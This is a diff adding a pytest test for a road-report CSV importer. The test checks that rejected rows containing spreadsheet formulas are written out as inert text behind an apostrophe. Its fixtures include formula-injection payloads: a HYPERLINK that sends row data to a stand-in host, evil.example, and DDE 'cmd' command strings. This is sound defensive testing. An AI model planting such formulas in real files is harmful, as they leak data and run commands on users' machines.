@@ -360,6 +360,54 @@ def test_generic_csv_rows_are_checked_one_by_one(
     ]
 
 
+# Cells a spreadsheet would run: a link that sends the row away, and a DDE command.
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Click for details")'
+DDE = "=cmd|' /C calc'!A0"
+FORMULAS = f"""\
+ID,LAT,LON,TYPE,TEXT,DATE,@NOTE
+"{HYPERLINK.replace('"', '""')}",abc,100.005,road,{DDE},2024-03-01 10:00,+1+cmd|' /C calc'!A0
+f2,95,-87.62,road,@SUM(1+1)*cmd|' /C calc'!A0,2024-03-01 10:00,-2+3
+f3,8.405,100.005,road,"\t=1+1",2024-03-01 10:00,ok
+f4,8.405,100.005,road,fine,2024-03-01 10:00,-87.62
+"""
+
+
+def test_rejects_file_never_carries_a_cell_a_spreadsheet_would_run(
+    engine: Engine, city: TinyCity, tmp_path: Path
+) -> None:
+    rejects = tmp_path / "rejects.csv"
+    summary = import_reports(
+        engine,
+        write(tmp_path / "formulas.csv", FORMULAS + "f5,8.405,100.005,nope,x,,\n"),
+        file_format="csv",
+        column_map=parse_column_map(GENERIC_MAP[:6]),
+        rejects_path=rejects,
+    )
+    assert (summary.inserted, summary.rejected) == (2, 3)
+    with rejects.open(encoding="utf-8-sig", newline="") as handle:
+        header, *rows = list(csv.reader(handle))
+    assert header == ["line", "reason", "ID", "LAT", "LON", "TYPE", "TEXT", "DATE", "'@NOTE"]
+    by_line = {row[0]: row for row in rows}
+    # Each formula is kept, readable, behind the apostrophe that makes it text.
+    assert by_line["2"][2:] == [
+        "'" + HYPERLINK,
+        "abc",
+        "100.005",
+        "road",
+        "'" + DDE,
+        "2024-03-01 10:00",
+        "'+1+cmd|' /C calc'!A0",
+    ]
+    assert by_line["3"][6] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert by_line["3"][8] == "'-2+3"
+    # A negative number is a number, not a formula: a longitude stays as it was.
+    assert by_line["3"][4] == "-87.62"
+    for row in rows:
+        for cell in row[1:]:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            assert not cell.startswith("-") or cell == "-87.62", cell
+
+
 @pytest.mark.parametrize(
     ("column_map", "default", "message"),
     [
